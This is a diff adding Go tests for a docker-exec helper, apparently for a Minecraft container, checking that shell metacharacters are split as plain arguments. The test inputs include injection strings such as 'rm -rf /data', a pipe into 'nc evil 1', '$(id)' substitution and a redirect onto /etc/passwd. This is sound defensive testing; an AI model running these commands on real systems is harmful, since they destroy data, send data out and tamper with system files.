@@ -0,0 +1,122 @@
+package dockerexec
+
+import (
+	"reflect"
+	"testing"
+)
+
+// Shell metacharacters must come out of SplitArgs as plain text: nothing is
+// expanded, substituted, redirected or used to chain commands.
+func TestSplitArgs(t *testing.T) {
+	tests := []struct {
+		in   string
+		want []string
+	}{
+		{`say hello`, []string{"say", "hello"}},
+		{"  say \t hello  ", []string{"say", "hello"}},
+		{`ls; rm -rf /data`, []string{"ls;", "rm", "-rf", "/data"}},
+		{`ls ; rm -rf /data`, []string{"ls", ";", "rm", "-rf", "/data"}},
+		{`cat a | nc evil 1`, []string{"cat", "a", "|", "nc", "evil", "1"}},
+		{`echo $(id) ${HOME} $HOME`, []string{"echo", "$(id)", "${HOME}", "$HOME"}},
+		{"echo `id`", []string{"echo", "`id`"}},
+		{`echo hi > /etc/passwd`, []string{"echo", "hi", ">", "/etc/passwd"}},
+		{`echo hi>>out 2>&1`, []string{"echo", "hi>>out", "2>&1"}},
+		{`a && b || c &`, []string{"a", "&&", "b", "||", "c", "&"}},
+		{`ls *.jar ~ {a,b}`, []string{"ls", "*.jar", "~", "{a,b}"}},
+		{`say "hello world"`, []string{"say", "hello world"}},
+		{`say 'it''s'`, []string{"say", "its"}},
+		{`say "a 'b' c"`, []string{"say", "a 'b' c"}},
+		{`say 'a "b" c'`, []string{"say", `a "b" c`}},
+		{`say "$(id); x"`, []string{"say", "$(id); x"}},
+		{`say '$HOME'`, []string{"say", "$HOME"}},
+		{`say a\ b`, []string{"say", "a b"}},
+		{`say \"quoted\"`, []string{"say", `"quoted"`}},
+		{`say \;`, []string{"say", ";"}},
+		{`say 'a\b'`, []string{"say", `a\b`}},
+		{`say "a\"b"`, []string{"say", `a"b`}},
+		{`say ""`, []string{"say", ""}},
+		{``, nil},
+	}
+	for _, tt := range tests {
+		got, err := SplitArgs(tt.in)
+		if err != nil {
+			t.Errorf("SplitArgs(%q): %v", tt.in, err)
+			continue
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("SplitArgs(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestSplitArgsUnterminated(t *testing.T) {
+	for _, in := range []string{`say "hi`, `say 'hi`, `say hi\`} {
+		if _, err := SplitArgs(in); err == nil {
+			t.Errorf("SplitArgs(%q): expected an error", in)
+		}
+	}
+}
+
+// The docker command line carries argv as separate arguments after the
+// container, exactly as given, so docker exec runs it without a shell.
+func TestExecArgs(t *testing.T) {
+	tests := []struct {
+		command string
+		want    []string
+	}{
+		{`ls -la /data`, []string{"exec", "mc", "ls", "-la", "/data"}},
+		{`echo a; rm -rf /data`, []string{"exec", "mc", "echo", "a;", "rm", "-rf", "/data"}},
+		{`echo $(id) | tee x > y`, []string{"exec", "mc", "echo", "$(id)", "|", "tee", "x", ">", "y"}},
+		{`echo "a b" 'c d' e\ f`, []string{"exec", "mc", "echo", "a b", "c d", "e f"}},
+		{`rcon-cli "say \"hi\"; stop"`, []string{"exec", "mc", "rcon-cli", `say "hi"; stop`}},
+	}
+	for _, tt := range tests {
+		argv, err := SplitArgs(tt.command)
+		if err != nil {
+			t.Fatalf("SplitArgs(%q): %v", tt.command, err)
+		}
+		got, err := execArgs("mc", argv)
+		if err != nil {
+			t.Fatalf("execArgs(%q): %v", argv, err)
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("command %q ran as %q, want %q", tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestExecArgsArgv(t *testing.T) {
+	argv := []string{"sh", "-c", "rm -rf /data; $(id) > /x"}
+	got, err := execArgs("mc", argv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"exec", "mc", "sh", "-c", "rm -rf /data; $(id) > /x"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("execArgs = %q, want %q", got, want)
+	}
+	for _, argv := range [][]string{nil, {""}} {
+		if _, err := execArgs("mc", argv); err == nil {
+			t.Errorf("execArgs(%q): expected an error", argv)
+		}
+	}
+}
+
+func TestShellArgv(t *testing.T) {
+	got := ShellArgv(`echo "$HOME"; id`)
+	want := []string{"sh", "-lc", `echo "$HOME"; id`}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("ShellArgv = %q, want %q", got, want)
+	}
+}
+
+func TestIsShell(t *testing.T) {
+	for prog, want := range map[string]bool{
+		"sh": true, "/bin/bash": true, "BUSYBOX": true, "/usr/bin/zsh": true,
+		"ls": false, "rcon-cli": false, "shasum": false, "": false,
+	} {
+		if got := IsShell(prog); got != want {
+			t.Errorf("IsShell(%q) = %v, want %v", prog, got, want)
+		}
+	}
+}